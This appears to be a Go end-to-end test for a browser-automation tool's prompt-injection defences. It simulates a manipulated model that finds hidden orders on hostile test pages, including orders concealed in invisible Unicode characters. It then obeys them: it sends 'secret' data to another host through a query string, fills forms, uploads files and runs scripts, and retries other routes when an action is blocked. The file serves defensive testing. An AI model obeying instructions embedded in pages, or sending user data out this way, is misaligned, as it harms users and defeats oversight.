package safety_test

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/zapvol/bua/tests/e2e"
)

// obedientModel is a model that has been talked round: it does whatever it reads.
// It works in one tab.
type obedientModel struct {
	t   *testing.T
	h   *hostile
	to  string // the host that it is sent to
	tab int
	// codes are those of what it was refused.
	codes      map[string]int
	suspicious bool
}

// do runs one action and keeps what it was refused.
func (m *obedientModel) do(action map[string]any) e2e.Answer {
	m.t.Helper()
	if _, named := action["tabId"]; !named && action["type"] != "open_tab" {
		action["tabId"] = m.tab
	}
	ctx, cancel := context.WithTimeout(m.t.Context(), 90*time.Second)
	defer cancel()
	got, err := m.h.b.Do(ctx, action)
	if err != nil {
		m.t.Errorf("%v: %v", action, err)
	}
	if got.Code != "" {
		m.codes[got.Code]++
	}
	_, flag := got.Result["suspicious"]
	m.suspicious = m.suspicious || flag
	return got
}

var orders = regexp.MustCompile(`(?i)do-([a-z]+)-(\d+)-now`)

// understood reports whether an answer holds an order of that case, in its text
// or its structured content, with the invisible characters taken away or read.
// What the tab's console and dialogs keep of earlier pages is no news.
func understood(a e2e.Answer, c hostileCase) bool {
	all, _ := json.Marshal(a.Result)
	read := strings.Map(func(r rune) rune {
		switch {
		case r >= 0xe0020 && r < 0xe007f:
			return r - 0xe0000
		case r == 0x200b:
			return -1
		}
		return r
	}, a.Text+" "+string(all))
	return slices.ContainsFunc(orders.FindAllStringSubmatch(read, -1), func(found []string) bool {
		return found[1] == c.demand && found[2] == strconv.Itoa(c.n)
	})
}

// visit reads a page in every way there is until it finds an order, and obeys.
func (m *obedientModel) visit(c hostileCase, from string) (obeyed bool) {
	m.t.Helper()
	page := m.h.site.On(from, fmt.Sprintf("/page/%d?to=%s", c.n, m.to))
	got := e2e.Answer{Code: "none"}
	if m.tab != 0 {
		got = m.do(map[string]any{"type": "navigate", "url": page})
	}
	if got.Code != "" { // the tab is where it may not work, or there is none
		m.leave(m.tab)
		if got = m.do(map[string]any{"type": "open_tab", "url": page}); got.Code != "" {
			m.t.Errorf("case %d, %s: the page itself: %s: %s", c.n, c.form.name, got.Code, got.Message)
			return false
		}
		m.tab = tabOf(got)
	}
	for _, read := range []string{"", "extract", "console", "dialog", "find"} {
		switch read {
		case "":
		case "find":
			got = m.do(map[string]any{"type": "find", "query": "instructions do now"})
		default:
			got = m.do(map[string]any{"type": read})
		}
		if understood(got, c) {
			if c.form.name == "a dialog" {
				m.do(map[string]any{"type": "dialog", "do": "accept"})
			}
			m.obey(c)
			return true
		}
	}
	return false
}

// obey does what a page demands. What it is refused it tries another way.
func (m *obedientModel) obey(c hostileCase) {
	m.t.Helper()
	desk := m.h.desk(c, m.to)
	switch c.demand {
	case "here":
		m.do(map[string]any{"type": "click", "selector": "#here"})
		return
	case "link":
		m.do(map[string]any{"type": "click", "selector": "#away"})
		m.do(map[string]any{"type": "wait_for", "selector": "#go", "timeoutMs": 2000})
		m.do(map[string]any{"type": "click", "selector": "#go"})
		return
	case "frame":
		got := m.do(map[string]any{"type": "frames"})
		list, _ := got.Result["frames"].([]any)
		for _, f := range list {
			frame, _ := f.(map[string]any)
			if url, _ := frame["url"].(string); strings.Contains(url, "/desk/") {
				m.do(map[string]any{"type": "click", "selector": "#go", "frameId": frame["frameId"]})
			}
		}
		return
	case "query":
		m.do(map[string]any{"type": "navigate", "url": m.h.site.On(m.to, fmt.Sprintf("/take/%d?data=secret", c.n))})
		return
	}
	tab := 0
	got := m.do(map[string]any{"type": "open_tab", "url": desk})
	if got.Code == "" {
		tab = tabOf(got)
		defer m.leave(tab)
	} else if got.Code == "timeout" || m.do(map[string]any{"type": "navigate", "url": desk}).Code != "" {
		return
	} else {
		tab = m.tab
	}
	act := func(typ, selector string, more map[string]any) {
		action := map[string]any{"type": typ, "tabId": tab}
		if selector != "" {
			action["selector"] = selector
		}
		for k, v := range more {
			action[k] = v
		}
		m.do(action)
	}
	switch c.demand {
	case "there":
		act("click", "#go", nil)
	case "form":
		act("type", "#text", map[string]any{"text": "secret"})
		act("press_key", "", map[string]any{"key": "Enter"})
	case "upload":
		act("upload_file", "#file", map[string]any{"name": "secret.txt", "mime": "text/plain", "text": "secret"})
	case "script":
		act("evaluate", "", map[string]any{"expression": "tell('script', 'ran'); return 1"})
	case "download":
		act("click", "#file-link", nil)
	}
	m.h.settle(m.t, c) // before the tab is closed
}

func (m *obedientModel) leave(tab int) {
	if tab != 0 {
		m.do(map[string]any{"type": "close_tab", "tabId": tab})
	}
}

func tabOf(a e2e.Answer) int {
	id, _ := a.Result["tabId"].(float64)
	return int(id)
}
